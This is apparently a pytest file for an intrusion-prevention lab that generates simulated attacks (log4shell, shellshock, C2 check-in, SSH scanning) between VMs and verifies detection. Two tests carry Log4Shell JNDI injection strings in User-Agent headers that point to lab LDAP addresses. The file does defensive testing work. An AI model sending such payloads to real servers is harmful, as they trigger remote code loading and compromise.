import pytest

from hyperward.errors import InputError
from hyperward.ips.rules.classes import RuleClass
from hyperward.lab.commands import select_attacks
from hyperward.lab.messages import HttpRequest, SshBanner
from hyperward.lab.outcome import Outcome, Result
from hyperward.lab.plan import plan_lab
from hyperward.lab.records import Record
from hyperward.lab.running import _expect, received
from hyperward.lab.scenario import KINDS, CheckKind, Direction, attacks, checks, dns_question

PLAN = plan_lab(vms=1, qemu=True)
ATTACKS = attacks(PLAN)
BY_NAME = {attack.name: attack for attack in ATTACKS}


def test_every_kind_goes_every_way_over_both_families() -> None:
    ways = sum(len(kind.directions) for kind in KINDS)
    assert len(ATTACKS) == len(BY_NAME) == ways * len(PLAN.protected()) * 2 == 36
    for attack in ATTACKS:
        assert attack.vm in {"vm1", "vmq"}
        assert {attack.client, attack.server} == {attack.vm, "out"}
        assert (attack.client == "out") == (attack.direction is Direction.IN)
        assert (":" in attack.server_address) == (attack.family == 6)


def test_the_attackers_own_address_is_in_the_request() -> None:
    message = BY_NAME["log4shell-vmq-out-v6"].message
    assert isinstance(message, HttpRequest)
    assert message.headers == (("User-Agent", "${jndi:ldap://[fd77::200]/a}"),)


def test_the_check_in_is_malware_and_goes_out_only() -> None:
    found = [attack for attack in ATTACKS if attack.kind.name == "c2-check-in"]
    assert {(attack.direction, attack.kind.rule_class) for attack in found} == {(Direction.OUT, RuleClass.MALWARE)}
    assert all(kind.rule_class is not RuleClass.INFO for kind in KINDS)


def test_every_vm_browses_downloads_resolves_and_pings() -> None:
    found = checks(PLAN)
    assert len({check.name for check in found}) == len(found) == 24
    for vm in ("vm1", "vmq"):
        assert {check.kind for check in found if check.client == vm} == set(CheckKind)
    sizes = {check.client: check.size for check in found if check.kind is CheckKind.DOWNLOAD}
    assert sizes["vm1"] == 500 * 1024 * 1024
    assert dns_question(next(check for check in found if check.kind is CheckKind.DNS)) == ("out.hyperward.test", "A")


def test_attacks_are_selected_by_kind_vm_and_family() -> None:
    chosen = select_attacks(ATTACKS, kinds=["shellshock"], vms=["vmq"], families=[6])
    assert [attack.name for attack in chosen] == ["shellshock-out-vmq-v6", "shellshock-vmq-out-v6"]
    assert select_attacks(ATTACKS) == list(ATTACKS)


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"kinds": ["x"]}, "no attack 'x'; there is log4shell"),
        ({"vms": ["out"]}, "no VM 'out'; there is vm1, vmq"),
        ({"families": [5]}, "no IP version '5'"),
    ],
)
def test_what_there_is_not_is_refused(arguments: dict[str, list[str]], message: str) -> None:
    with pytest.raises(InputError, match=message):
        select_attacks(ATTACKS, **arguments)  # type: ignore[arg-type]  # wrong on purpose


def _request(target: str, headers: dict[str, str] | None) -> Record:
    return Record(0, "http", "request", "", {"target": target} | ({"headers": headers} if headers is not None else {}))


def test_an_attack_is_recognised_among_what_was_received() -> None:
    attack = BY_NAME["log4shell-out-vm1-v4"]
    assert received([_request("/login", {"User-Agent": "${jndi:ldap://10.77.0.9/a}"})], attack)
    assert received([_request("/login", None)], attack)
    assert not received([_request("/login", {"User-Agent": "curl"}), _request("/x", None)], attack)
    assert not received([Record(0, "http", "connection", "10.77.0.9")], attack)
    scanner = BY_NAME["ssh-scanner-out-vm1-v4"]
    assert isinstance(scanner.message, SshBanner)
    assert received([Record(0, "ssh", "banner", "", {"banner": scanner.message.banner})], scanner)
    assert not received([Record(0, "ssh", "banner", "", {"banner": "SSH-2.0-OpenSSH"})], scanner)


def test_a_wrong_answer_is_a_failure() -> None:
    done = Outcome(Result.COMPLETED, 3, "HTTP 200", "aa")
    assert _expect(done, detail="HTTP 200", sha256="aa") == done
    assert _expect(done, detail="HTTP 404").result is Result.FAILED
    assert _expect(done, sha256="bb").result is Result.FAILED
    reset = Outcome(Result.RESET)
    assert _expect(reset, sha256="bb") == reset
